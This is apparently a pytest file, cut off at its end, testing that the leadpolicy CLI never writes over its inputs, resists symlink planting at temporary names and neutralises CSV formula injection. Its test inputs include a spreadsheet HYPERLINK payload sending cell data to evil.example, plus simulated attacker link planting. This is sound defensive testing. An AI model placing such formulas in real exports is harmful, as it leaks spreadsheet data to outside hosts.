"""Files commands write: never over one of their inputs or over each other, checked before any work."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from leadpolicy.cli.main import main

from .conftest import POLICIES
from .files import write_csv

AS_OF, NOW = "2026-11-01T00:00:00-04:00", "2026-11-30T12:00:00-05:00"
LEADS = [("1", "a@bigsoft.io", 1500, "software", "webinar"), ("2", "b@shop.fr", 20, "retail", "paid_search")]
EVENTS = [("1", "became_sql", "2026-11-02T10:00:00-05:00", ""),
          ("1", "first_touch", "2026-11-02T11:00:00-05:00", ""),
          ("2", "closed_lost", "2026-11-10T10:00:00-05:00", ""),
          ("2", "no_such_event", "2026-11-10T10:00:00-05:00", "")]  # one rejected row
DATA = ["--leads", "leads.csv", "--events", "events.csv", "--as-of", AS_OF, "--now", NOW]
SCORE = ["score", "p.policy", "leads.csv", "--events", "events.csv", "--now", NOW]
SLA = ["sla", "p.policy", "events.csv", "--now", NOW, "--report-only"]
CI = ["ci", "p.policy", "--skip-fmt", "--skip-approvals", "--skip-versions"]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A folder with a policy, its samples, leads and events, as a user has them."""
    monkeypatch.chdir(tmp_path)
    shutil.copy(POLICIES / "inbound-activity.policy", tmp_path / "p.policy")
    samples = (POLICIES / "inbound-activity.samples.yaml").read_text("utf-8")
    (tmp_path / "p.samples.yaml").write_text(samples.replace("policy: inbound-activity.policy", "policy: p.policy"))
    shutil.copy(POLICIES / "inbound-activity.policy", tmp_path / "new.policy")
    write_csv(tmp_path / "leads.csv", ["id", "email", "employees", "industry", "source"], LEADS)
    write_csv(tmp_path / "events.csv", ["lead", "event", "at", "reason"], EVENTS)
    os.link(tmp_path / "leads.csv", tmp_path / "hard-link-to-leads.csv")
    os.symlink("p.policy", tmp_path / "link-to-policy.policy")
    (tmp_path / "p.approvals.yaml").write_text("policy: inbound-activity\napprovals: []\n")
    shutil.copy(tmp_path / "p.samples.yaml", tmp_path / "new.samples.yaml")
    return tmp_path


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry of the folder: a file's bytes, a link's target, another kind of file's kind."""
    return {p.name: os.readlink(p) if p.is_symlink() else p.read_bytes() if p.is_file() else stat.S_IFMT(
        p.lstat().st_mode) for p in sorted(folder.iterdir())}


# Each: the command and the output flag naming one of its inputs (or an output named twice).
CLASHES = [
    ("feedback -o leads", ["feedback", "p.policy", *DATA, "-o", "leads.csv"]),
    ("feedback -o events", ["feedback", "p.policy", *DATA, "-o", "events.csv"]),
    ("feedback -o policy", ["feedback", "p.policy", *DATA, "-o", "p.policy"]),
    ("feedback -o the leads by a hard link", ["feedback", "p.policy", *DATA, "-o", "hard-link-to-leads.csv"]),
    ("backtest -o NEW", ["backtest", "p.policy", "new.policy", *DATA, "-o", "new.policy"]),
    ("backtest -o OLD through a symlink", ["backtest", "p.policy", "new.policy", *DATA, "-o",
                                          "link-to-policy.policy"]),
    ("sla --details policy", [*SLA, "--details", "p.policy"]),
    ("sla --rejects policy", [*SLA, "--rejects", "p.policy"]),
    ("sla --details leads", [*SLA, "--leads", "leads.csv", "--details", "leads.csv"]),
    ("sla --details and --rejects one file", [*SLA, "--details", "out.csv", "--rejects", "out.csv"]),
    ("score --rejects policy", [*SCORE, "--rejects", "p.policy"]),
    ("score --events-rejects policy", [*SCORE, "--events-rejects", "p.policy"]),
    ("score -o leads by a hard link", [*SCORE, "-o", "hard-link-to-leads.csv"]),
    ("score --rejects and --events-rejects one file", [*SCORE, "--rejects", "r.csv", "--events-rejects", "r.csv"]),
    ("test --junit policy", ["test", "p.policy", "--junit", "p.policy"]),
    ("test --junit samples", ["test", "p.policy", "--junit", "p.samples.yaml"]),
    ("ci --sarif policy", [*CI, "--sarif", "p.policy"]),
    ("ci --sarif samples", [*CI, "--sarif", "p.samples.yaml"]),
    ("compile -o policy", ["compile", "p.policy", "-o", "p.policy"]),
    ("compile -o policy through a symlink", ["compile", "link-to-policy.policy", "-o", "p.policy"]),
    # a policy's samples and approvals files, also where the command does not read them
    ("compile -o samples", ["compile", "p.policy", "-o", "p.samples.yaml"]),
    ("compile -o approvals", ["compile", "p.policy", "-o", "p.approvals.yaml"]),
    ("score -o samples", [*SCORE, "-o", "p.samples.yaml"]),
    ("score --rejects approvals", [*SCORE, "--rejects", "p.approvals.yaml"]),
    ("score --events-rejects samples", [*SCORE, "--events-rejects", "p.samples.yaml"]),
    ("sla --details samples", [*SLA, "--details", "p.samples.yaml"]),
    ("sla --rejects approvals", [*SLA, "--rejects", "p.approvals.yaml"]),
    ("feedback -o samples", ["feedback", "p.policy", *DATA, "-o", "p.samples.yaml"]),
    ("backtest -o the new policy's samples", ["backtest", "p.policy", "new.policy", *DATA, "-o",
                                              "new.samples.yaml"]),
    ("backtest -o the old policy's approvals", ["backtest", "p.policy", "new.policy", *DATA, "-o",
                                                "p.approvals.yaml"]),
]


@pytest.mark.parametrize("argv", [argv for _, argv in CLASHES], ids=[name for name, _ in CLASHES])
def test_no_command_writes_over_its_inputs(argv, folder, capsys):
    before = snapshot(folder)
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "would be the same file as" in err, err
    assert snapshot(folder) == before  # byte for byte, and nothing written beside them


class FifoReader:
    """A FIFO at `path` and a thread reading it to the end, as a consumer of the output would."""

    def __init__(self, path: Path):
        os.mkfifo(path)
        self.path, self.inode = path, path.with_name(path.name + ".same-fifo")
        os.link(path, self.inode)  # reaches the FIFO even if the command replaced its name with a file
        self.data = b""
        self.thread = threading.Thread(target=self._read, daemon=True)
        self.thread.start()

    def _read(self) -> None:
        with open(self.inode, "rb") as handle:
            self.data = handle.read()

    def finish(self) -> bytes:
        """What the command wrote into the FIFO (b"" when it never opened it)."""
        with contextlib.suppress(OSError):  # a reader still waiting for a writer: let it see the end
            os.close(os.open(self.inode, os.O_WRONLY | os.O_NONBLOCK))
        self.thread.join(timeout=20)
        assert not self.thread.is_alive()
        return self.data


def char_device(folder: Path) -> Path:
    """A character device like /dev/null: a twin made in the test's folder where the system allows it (so a
    regression cannot replace the machine's own /dev/null), else /dev/null itself."""
    twin = folder / "null"
    try:
        os.mknod(twin, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, AttributeError):
        return Path("/dev/null")
    return twin


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


# Each writer: the command, the output flag and what the written content must be.
WRITERS = [
    ("score -o", [*SCORE, "--rejects", "r.csv", "--events-rejects", "er.csv", "-o"],
     lambda data: [r["id"] for r in _csv_rows(data)] == ["1", "2"]),
    ("score --rejects", [*SCORE, "-o", "scored.csv", "--events-rejects", "er.csv", "--rejects"],
     lambda data: [r["row"] for r in _csv_rows(data)] == ["3"]),
    ("score --events-rejects", [*SCORE, "-o", "scored.csv", "--rejects", "r.csv", "--events-rejects"],
     lambda data: [r["row"] for r in _csv_rows(data)] == ["4"]),
    ("sla --rejects", [*SLA, "--rejects"], lambda data: [r["event"] for r in _csv_rows(data)] == ["no_such_event"]),
    ("sla --details", [*SLA, "--rejects", "r.csv", "--details"],
     lambda data: {r["lead"] for r in _csv_rows(data)} >= {"1"}),
    ("feedback -o", ["feedback", "p.policy", *DATA, "--format", "json", "-o"],
     lambda data: json.loads(data)["policy"] == "inbound-activity"),
    ("backtest -o", ["backtest", "p.policy", "new.policy", *DATA, "--format", "json", "-o"],
     lambda data: json.loads(data)["new"]["policy"] == "inbound-activity"),
    ("test --junit", ["test", "p.policy", "--junit"], lambda data: ET.fromstring(data).tag == "testsuites"),
    ("ci --sarif", [*CI, "--sarif"], lambda data: json.loads(data)["version"] == "2.1.0"),
    ("compile -o", ["compile", "p.policy", "-o"], lambda data: json.loads(data)["id"] == "inbound-activity"),
]


@pytest.fixture
def rejecting(folder):
    """The folder, with a lead the policy rejects (row 3)."""
    write_csv(folder / "leads.csv", ["id", "email", "employees", "industry", "source"],
              [*LEADS, ("3", "c@d.io", "lots", "retail", "organic")])
    return folder


@pytest.mark.parametrize("argv, written", [(argv, check) for _, argv, check in WRITERS],
                         ids=[name for name, _, _ in WRITERS])
def test_every_writer_writes_into_a_fifo_in_place(argv, written, rejecting, capsys):
    fifo = FifoReader(rejecting / "out.csv")
    code = main([*argv, str(fifo.path)])
    data = fifo.finish()
    assert code == 0, capsys.readouterr()
    assert stat.S_ISFIFO(os.stat(fifo.path).st_mode)
    assert written(data), data[:500]


@pytest.mark.parametrize("argv", [argv for _, argv, _ in WRITERS], ids=[name for name, _, _ in WRITERS])
def test_every_writer_writes_into_a_character_device_in_place(argv, rejecting, capsys):
    device = char_device(rejecting)
    code = main([*argv, str(device)])
    assert code == 0, capsys.readouterr()
    assert stat.S_ISCHR(os.stat(device).st_mode)
    assert not list(device.parent.glob(f".{device.name}*"))  # no temporary file left beside it


def test_score_rejects_to_dev_null_leaves_dev_null_a_device(rejecting, capsys):
    assert main([*SCORE, "-o", "scored.csv", "--rejects", "/dev/null"]) == 0
    assert "1 rejected row(s) written to /dev/null" in capsys.readouterr().out
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_socket_is_refused_before_any_work(rejecting, capsys):
    server = socket.socket(socket.AF_UNIX)
    server.bind(os.path.relpath(rejecting / "sock"))  # a socket's path has at most 107 bytes
    try:
        before = snapshot(rejecting)
        assert main([*SCORE, "-o", "scored.csv", "--rejects", "sock"]) == 2
        assert "neither a regular file, a character device nor a FIFO" in capsys.readouterr().err
        assert snapshot(rejecting) == before
    finally:
        server.close()


BAD_SECOND_OUTPUT = [
    ("score --rejects DIR", [*SCORE, "-o", "kept.csv", "--rejects", "sub"]),
    ("score --events-rejects in a missing folder", [*SCORE, "-o", "kept.csv", "--events-rejects", "nowhere/e.csv"]),
    ("sla --rejects DIR", [*SLA, "--details", "kept.csv", "--rejects", "sub"]),
    ("feedback --rejects-folder unwritable", ["feedback", "p.policy", *DATA, "-o", "kept.csv", "--rejects-folder",
                                             "/proc"]),
]


@pytest.mark.parametrize("argv", [argv for _, argv in BAD_SECOND_OUTPUT], ids=[name for name, _ in BAD_SECOND_OUTPUT])
def test_one_bad_output_stops_the_run_before_any_file_is_written(argv, rejecting, capsys):
    (rejecting / "kept.csv").write_text("the previous output\n")
    (rejecting / "sub").mkdir()
    before = snapshot(rejecting)
    assert main(argv) == 2
    assert snapshot(rejecting) == before, capsys.readouterr()


# Cells a spreadsheet would run as formulas (OWASP, CSV injection): each must come out prefixed with '.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
EXCEL_POLICY = """policy "excel" version 1.0.0 {
  title "Excel"
  owner marketing "M"
  owner sales "S"
  timezone "UTC"
  lead {
    email text required
    note text
  }
  score fit {
    -5 when email ends with "@gmail.com"
  }
  stages {
    sales when fit >= 10 owner sales
    nurture otherwise owner marketing
  }
}
"""


def _read(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _formula_cells(rows: list[dict]) -> list[str]:
    return [v for row in rows for v in row.values() if v and v.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_sla_rejects_and_details_never_hold_a_formula(engine, folder, capsys):
    rows = [(lead, "became_sql", "2026-11-02T10:00:00-05:00", "") for lead in FORMULAS]
    rows += [(lead, "no_such_event", "2026-11-02T10:00:00-05:00", reason) for lead, reason in zip(FORMULAS, FORMULAS)]
    write_csv(folder / "events.csv", ["lead", "event", "at", "reason"], rows)
    assert main([*SLA, "--engine", engine, "--rejects", "r.csv", "--details", "d.csv"]) == 0, capsys.readouterr()
    rejects, details = _read(folder / "r.csv"), _read(folder / "d.csv")
    assert _formula_cells(rejects) == [] and _formula_cells(details) == []
    unknown = [r for r in rejects if r["field"] == "event"]  # (a lead's blanks are trimmed: "\t=1" is "=1" again)
    assert sorted(r["lead"] for r in unknown) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["reason"] for r in unknown) == sorted("'" + f for f in FORMULAS)
    assert {r["lead"] for r in details} == {"'" + f.strip() for f in FORMULAS}
    assert all(r["row"].isdigit() for r in rejects)  # computed numbers stay numbers
    assert all(float(r["used_minutes"]) >= 0 for r in details if r["used_minutes"])


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_score_rejects_never_hold_a_formula(engine, folder, capsys):
    write_csv(folder / "leads.csv", ["id", "email", "employees", "industry", "source"],
              [(f, f, f, f, f) for f in FORMULAS])
    write_csv(folder / "events.csv", ["lead", "event", "at"], [(f, f, f) for f in FORMULAS])
    assert main([*SCORE, "--engine", engine, "-o", "s.csv", "--rejects", "r.csv", "--events-rejects", "e.csv"]) == 0
    for name in ("r.csv", "e.csv"):
        rejects = _read(folder / name)
        assert rejects and _formula_cells(rejects) == [], rejects


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_score_excel_safe_neutralises_text_from_the_leads_and_keeps_scores_numbers(engine, tmp_path, monkeypatch,
                                                                                    capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "excel.policy").write_text(EXCEL_POLICY)
    write_csv(tmp_path / "leads.csv", ["email", "note", "amount"],
              [("a@gmail.com", f, "-5") for f in FORMULAS] + [("b@x.io", "plain", "7")])
    base = ["score", "excel.policy", "leads.csv", "--engine", engine, "--now", NOW]
    assert main([*base, "-o", "as-given.csv"]) == 0
    assert [r["note"] for r in _read(tmp_path / "as-given.csv")] == [*FORMULAS, "plain"]  # kept as given
    assert main([*base, "-o", "safe.csv", "--excel-safe"]) == 0
    rows = _read(tmp_path / "safe.csv")
    assert [r["note"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain"]
    assert [r["amount"] for r in rows] == ["'-5"] * len(FORMULAS) + ["7"]  # text from the file, even a number
    assert [r["fit"] for r in rows] == ["-5"] * len(FORMULAS) + ["0"]  # computed scores stay numbers
    assert main([*base, "-o", "safe.jsonl", "--excel-safe"]) == 2
    assert "--excel-safe" in capsys.readouterr().err and not (tmp_path / "safe.jsonl").exists()


@pytest.fixture
def apart(tmp_path, monkeypatch):
    """Policies in policies/, data with bad rows in data/, the command run from run/."""
    for name in ("policies", "data", "run"):
        (tmp_path / name).mkdir()
    shutil.copy(POLICIES / "inbound-activity.policy", tmp_path / "policies" / "p.policy")
    write_csv(tmp_path / "data" / "leads.csv", ["id", "email", "employees", "industry", "source"],
              [*LEADS, ("3", "c@d.io", "lots", "retail", "organic")])
    write_csv(tmp_path / "data" / "events.csv", ["lead", "event", "at", "reason"], EVENTS)
    monkeypatch.chdir(tmp_path / "run")
    return tmp_path


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_sla_rejects_go_beside_the_event_log_not_here(apart, capsys):
    assert main(["sla", "../policies/p.policy", "../data/events.csv", "--now", NOW, "--report-only"]) == 0
    assert _files(apart / "run") == [] and _files(apart / "policies") == ["p.policy"]
    assert [r["event"] for r in _read(apart / "data" / "events.rejects.csv")] == ["no_such_event"]


def test_feedback_rejects_go_beside_each_data_file_not_here(apart, capsys):
    data = ["--leads", "../data/leads.csv", "--events", "../data/events.csv", "--as-of", AS_OF, "--now", NOW]
    assert main(["feedback", "../policies/p.policy", *data]) == 0
    assert _files(apart / "run") == [] and _files(apart / "policies") == ["p.policy"]
    assert [r["row"] for r in _read(apart / "data" / "leads.rejects.csv")] == ["3"]
    assert [r["row"] for r in _read(apart / "data" / "events.rejects.csv")] == ["4"]


def test_score_rejects_never_land_in_a_folder_of_policies(apart, capsys):
    score = ["score", "p.policy", "../data/leads.csv", "--events", "../data/events.csv", "--now", NOW]
    os.chdir(apart / "policies")  # the output lands here, among the policies: the rejects go beside the data
    assert main(score) == 0
    assert _files(apart / "policies") == ["leads.scored.csv", "p.policy"]
    assert _files(apart / "data") == ["events.csv", "events.rejects.csv", "leads.csv", "leads.rejects.csv"]


def test_rejects_are_not_written_when_every_default_place_holds_policies(apart, capsys):
    for name in ("leads.csv", "events.csv"):
        shutil.move(apart / "data" / name, apart / "policies" / name)
    os.chdir(apart / "policies")
    before = _files(apart / "policies")
    assert main(["sla", "p.policy", "events.csv", "--now", NOW, "--report-only"]) == 0
    assert main(["score", "p.policy", "leads.csv", "--events", "events.csv", "--now", NOW]) == 0
    assert _files(apart / "policies") == sorted([*before, "leads.scored.csv"])  # the output, as asked; no rejects
    err = capsys.readouterr().err
    assert err.count("not written") == 3 and "--rejects" in err and "--events-rejects" in err


def test_feedback_writes_rejects_beside_its_data_even_among_policies(apart, capsys):
    """A data file's own rows go beside it whatever else its folder holds (a proposal written there): that
    folder already holds them, so no lead data lands where there was none."""
    for name in ("leads.csv", "events.csv"):
        shutil.move(apart / "data" / name, apart / "policies" / name)
    os.chdir(apart / "policies")
    assert main(["feedback", "p.policy", *DATA]) == 0
    assert "not written" not in capsys.readouterr().err
    assert [r["row"] for r in _read(apart / "policies" / "leads.rejects.csv")] == ["3"]
    assert [r["row"] for r in _read(apart / "policies" / "events.rejects.csv")] == ["4"]


def test_an_output_through_a_symbolic_link_replaces_the_file_it_points_to(rejecting, capsys):
    (rejecting / "real.csv").write_text("the previous output\n")
    os.symlink("real.csv", rejecting / "scored.csv")
    assert main([*SCORE, "-o", "scored.csv", "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 0
    assert os.readlink(rejecting / "scored.csv") == "real.csv"
    assert [r["id"] for r in _read(rejecting / "real.csv")] == ["1", "2"]


def test_an_output_to_dev_stdout_reaches_a_pipe(folder):
    """/dev/stdout names a pipe here (its resolved path is no file at all): written in place as a FIFO is."""
    result = subprocess.run([sys.executable, "-m", "leadpolicy", "compile", "p.policy", "-o", "/dev/stdout"],
                            cwd=folder, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout[:result.stdout.rindex("}") + 1])["id"] == "inbound-activity"


def test_fmt_rewrites_a_policy_whole_or_not_at_all(tmp_path, monkeypatch, capsys):
    import leadpolicy.outputs as outputs

    policy = tmp_path / "p.policy"
    policy.write_text((POLICIES / "inbound-b2b.policy").read_text("utf-8").replace("\n  title", "\n      title"))
    before = snapshot(tmp_path)

    def interrupted(*args):
        raise KeyboardInterrupt  # Ctrl-C just before the new text would take the old one's place

    monkeypatch.setattr(outputs.os, "replace", interrupted)
    assert main(["fmt", str(policy)]) == 130
    assert snapshot(tmp_path) == before
    monkeypatch.undo()
    assert main(["fmt", str(policy)]) == 0 and main(["fmt", "--check", str(policy)]) == 0


def _plant_links_at_old_temporary_names(folder: Path, output: str, victim: str) -> None:
    """What an attacker who can write the output's folder plants where a predictable temporary name would be:
    a symbolic link and a hard link to a file of the run (the name leadpolicy once used, `.NAME.PID.tmp`)."""
    os.symlink(victim, folder / f".{output}.{os.getpid()}.tmp")
    os.link(folder / victim, folder / f".{output}.{os.getpid() + 1}.tmp")


# Each: a writer and the file it is told to write; the planted links point at the leads file.
PLANTED = [(name, [*argv, "out.csv"], "out.csv") for name, argv, _ in WRITERS] + [
    ("approve", ["approve", "p.policy", "--team", "sales", "--by", "Raj Patel <raj@example.com>"],
     "p.approvals.yaml"),
    ("fmt", ["fmt", "p.policy"], "p.policy"),
]


@pytest.mark.parametrize("argv, output", [(argv, output) for _, argv, output in PLANTED],
                         ids=[name for name, _, _ in PLANTED])
def test_a_link_planted_at_a_temporary_name_is_never_written_through(argv, output, rejecting, capsys):
    if argv[0] == "fmt":
        (rejecting / "p.policy").write_text((rejecting / "p.policy").read_text("utf-8").replace("\n  title",
                                                                                                "\n      title"))
    leads = (rejecting / "leads.csv").read_bytes()
    _plant_links_at_old_temporary_names(rejecting, output, "leads.csv")
    assert main(argv) == 0, capsys.readouterr()
    assert (rejecting / "leads.csv").read_bytes() == leads
    assert not (rejecting / output).is_symlink() and (rejecting / output).stat().st_ino != (
        rejecting / "leads.csv").stat().st_ino


@pytest.fixture
def samples_elsewhere(tmp_path, monkeypatch):
    """a/s.samples.yaml runs the cases of b/q.policy, a policy outside the paths a command is given."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    shutil.copy(POLICIES / "inbound-activity.policy", tmp_path / "b" / "q.policy")
    samples = (POLICIES / "inbound-activity.samples.yaml").read_text("utf-8")
    (tmp_path / "a" / "s.samples.yaml").write_text(samples.replace("policy: inbound-activity.policy",
                                                                   "policy: ../b/q.policy"))
    (tmp_path / "b" / "q.approvals.yaml").write_text("policy: inbound-activity\napprovals: []\n")
    return tmp_path


@pytest.mark.parametrize("command", [["test", "a/s.samples.yaml", "--junit"],
                                     ["ci", "a/s.samples.yaml", "--skip-fmt", "--skip-versions", "--sarif"]],
                         ids=["test --junit", "ci --sarif"])
@pytest.mark.parametrize("victim", ["b/q.policy", "b/q.approvals.yaml"])
def test_a_report_never_replaces_the_policy_a_samples_file_names(command, victim, samples_elsewhere, capsys):
    before = {name: snapshot(samples_elsewhere / name) for name in ("a", "b")}
    assert main([*command, victim]) == 2
    assert "would be the same file as" in capsys.readouterr().err
    assert {name: snapshot(samples_elsewhere / name) for name in ("a", "b")} == before


def _tree(root: Path) -> dict[str, bytes | str | int]:
    """Every entry under `root` by its relative path, as `snapshot` describes one."""
    return {str(p.relative_to(root)): os.readlink(p) if p.is_symlink() else p.read_bytes() if p.is_file() else
            stat.S_IFMT(p.lstat().st_mode) for p in sorted(root.rglob("*"))}


@pytest.mark.parametrize("page", ["docs/policies/inbound-activity.md", "docs/index.md", "mkdocs.yml"])
@pytest.mark.parametrize("target", ["p.policy", "secret.txt"])
def test_docs_replaces_a_link_in_its_site_never_the_file_it_points_to(page, target, folder, capsys):
    (folder / "secret.txt").write_text("not a page\n")
    site = folder / "site"
    (site / "docs" / "policies").mkdir(parents=True)
    link = site / page
    os.symlink(os.path.relpath(folder / target, link.parent), link)
    before = snapshot(folder)
    assert main(["docs", "p.policy", "-o", "site"]) == 0, capsys.readouterr()
    assert {k: v for k, v in snapshot(folder).items() if k != "site"} == {k: v for k, v in before.items()
                                                                          if k != "site"}
    assert not link.is_symlink() and link.is_file() and link.stat().st_size > 0


@pytest.mark.parametrize("page", ["docs/policies/inbound-activity.md", "docs/index.md", "mkdocs.yml"])
@pytest.mark.parametrize("kind", ["folder", "socket", "character device", "fifo"])
def test_docs_refuses_a_page_it_cannot_replace_before_writing_any(page, kind, folder, capsys):
    site = folder / "site"
    (site / "docs" / "policies").mkdir(parents=True)
    (site / "docs" / "policies" / "old.md").write_text("an earlier page\n")
    blocker = site / page
    server = None
    if kind == "folder":
        blocker.mkdir()
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX)
        server.bind(os.path.relpath(blocker))  # a socket path has at most 107 bytes
    elif kind == "fifo":
        os.mkfifo(blocker)
    else:
        try:
            os.mknod(blocker, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        except PermissionError:
            pytest.skip("making a character device needs root")
    try:
        before = _tree(site)
        assert main(["docs", "p.policy", "-o", "site"]) == 2
        assert page in capsys.readouterr().err
        assert _tree(site) == before
    finally:
        if server is not None:
            server.close()


def test_docs_refuses_a_linked_folder_inside_its_site(folder, capsys):
    (folder / "elsewhere").mkdir()
    (folder / "site").mkdir()
    os.symlink("../elsewhere", folder / "site" / "docs")
    assert main(["docs", "p.policy", "-o", "site"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert not list((folder / "elsewhere").iterdir())


def test_docs_writes_nothing_when_a_policy_cannot_be_published(folder, capsys):
    assert main(["docs", "missing.policy", "-o", "site2/sub"]) == 1
    (folder / "bad.policy").write_text("policy {\n")
    assert main(["docs", "bad.policy", "-o", "site2/sub"]) == 1
    assert not (folder / "site2").exists()


def full_device(folder: Path) -> Path:
    """A character device that refuses every write as a full disk does (ENOSPC): a twin of /dev/full made in
    the test's folder where the system allows it, else /dev/full itself."""
    twin = folder / "full"
    try:
        os.mknod(twin, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except (PermissionError, AttributeError):
        return Path("/dev/full")
    return twin


@pytest.mark.parametrize("argv", [argv for _, argv, _ in WRITERS], ids=[name for name, _, _ in WRITERS])
def test_a_write_that_fails_for_want_of_space_is_a_clear_problem(argv, rejecting, capsys):
    assert main([*argv, str(full_device(rejecting))]) == 1
    err = capsys.readouterr().err
    assert "write failed" in err and "no space left" in err.lower() and "internal error" not in err, err


def test_an_output_name_as_long_as_the_system_allows_is_written(rejecting, capsys):
    name = "s" * 251 + ".csv"  # 255 bytes: the longest file name; a temporary name must not be longer
    assert main([*SCORE, "-o", name, "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 0, capsys.readouterr()
    assert [r["id"] for r in _read(rejecting / name)] == ["1", "2"]


def test_an_output_name_that_is_not_utf8_is_bad_usage(rejecting, capsys):
    name = os.fsdecode(b"scored-\xff.csv")
    assert main([*SCORE, "-o", name, "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 2
    assert "UTF-8" in capsys.readouterr().err
    assert not (rejecting / name).exists()


@pytest.mark.parametrize("shell", [
    "leadpolicy score p.policy <(cat leads.csv) --leads-format csv --events events.csv -o out.csv",
    "cat leads.csv | leadpolicy score p.policy /dev/stdin --leads-format csv --events events.csv -o out.csv",
    "leadpolicy score p.policy leads.csv --events <(cat events.csv) --events-format csv -o out.csv",
    "leadpolicy score p.policy <(cat leads.csv) --leads-format csv --events events.csv -o out.csv --engine python",
], ids=["leads from a process substitution", "leads from a pipe", "events from a process substitution",
        "python engine, leads from a pipe"])
def test_leads_and_events_can_come_from_a_pipe(shell, rejecting):
    command = shell.replace("leadpolicy", f"{sys.executable} -m leadpolicy", 1) + \
        f" --now {NOW} --rejects r.csv --events-rejects er.csv"
    result = subprocess.run(["bash", "-c", command], cwd=rejecting, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert [r["id"] for r in _read(rejecting / "out.csv")] == ["1", "2"]
    assert [r["row"] for r in _read(rejecting / "r.csv")] == ["3"]
    assert [r["row"] for r in _read(rejecting / "er.csv")] == ["4"]
    assert "read 3, scored 2, rejected 1; events: read 4, used 3, rejected 1" in result.stdout


@pytest.mark.parametrize("engine", ["duckdb", "python"])
@pytest.mark.parametrize("name", ["[ab].csv", "*.csv", "?.csv", "{a,b}.csv"])
def test_a_file_named_like_a_pattern_is_read_as_named(name, engine, folder, capsys):
    (folder / "d").mkdir()
    header = ["id", "email", "employees", "industry", "source"]
    write_csv(folder / "d" / "a.csv", header, [LEADS[0]])
    write_csv(folder / "d" / "b.csv", header, [LEADS[1]])
    write_csv(folder / "d" / name, header, [("9", "z@bigsoft.io", 1500, "software", "webinar")])
    shutil.copy(folder / "events.csv", folder / "d" / f"e{name}")
    assert main(["score", "p.policy", f"d/{name}", "--events", f"d/e{name}", "--now", NOW, "-o", "out.csv",
                 "--engine", engine, "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 0
    assert [r["id"] for r in _read(folder / "out.csv")] == ["9"]
    assert "events: read 4" in capsys.readouterr().out


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_score_excel_safe_neutralises_the_header_cells_that_came_from_the_leads(engine, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "excel.policy").write_text(EXCEL_POLICY)
    formulas = [f for f in FORMULAS if "\r" not in f]  # a carriage return in a header cell: DuckDB reads no file
    write_csv(tmp_path / "leads.csv", ["email", "note", *formulas], [("a@x.io", "plain", *["1"] * len(formulas))])
    assert main(["score", "excel.policy", "leads.csv", "--engine", engine, "--now", NOW, "-o", "safe.csv",
                 "--excel-safe"]) == 0
    with open(tmp_path / "safe.csv", newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header[:2 + len(formulas)] == ["email", "note", *("'" + f for f in formulas)]
    assert not _formula_cells([dict.fromkeys(header, "")] + [{"h": h} for h in header])


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o755])
def test_a_replaced_file_keeps_its_mode_and_owner(mode, rejecting, capsys):
    unformatted = (rejecting / "p.policy").read_text("utf-8").replace("\n  title", "\n      title")
    (rejecting / "p.policy").write_text(unformatted)
    (rejecting / "r.csv").write_text("an earlier rejects file\n")
    (rejecting / "scored.csv").write_text("an earlier output\n")
    owner = (os.getuid(), os.getgid()) if os.geteuid() != 0 else (1234, 2345)  # as root: another owner
    for name in ("p.policy", "r.csv", "scored.csv"):
        os.chmod(rejecting / name, mode)
        if os.geteuid() == 0:
            os.chown(rejecting / name, *owner)
    assert main(["fmt", "p.policy"]) == 0
    assert main([*SCORE, "-o", "scored.csv", "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 0, \
        capsys.readouterr()
    for name in ("p.policy", "r.csv", "scored.csv"):
        info = (rejecting / name).stat()
        assert (stat.S_IMODE(info.st_mode), info.st_uid, info.st_gid) == (mode, *owner), name
    assert (rejecting / "p.policy").read_text("utf-8") != unformatted  # replaced indeed


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_a_new_file_gets_the_mode_the_umask_gives(mask, rejecting, capsys):
    old = os.umask(mask)
    try:
        assert main([*SCORE, "-o", "scored.csv", "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 0
        assert main(["compile", "p.policy", "-o", "p.json"]) == 0
    finally:
        os.umask(old)
    for name in ("scored.csv", "r.csv", "er.csv", "p.json"):
        assert _mode(rejecting / name) == 0o666 & ~mask, name


@pytest.mark.parametrize("policy_name", ["P.POLICY", "p.Policy", "p.policy"])
def test_a_folder_holds_policies_whatever_the_case_of_their_extension(policy_name, tmp_path):
    from leadpolicy.outputs import default_rejects

    (tmp_path / "pol1").mkdir()
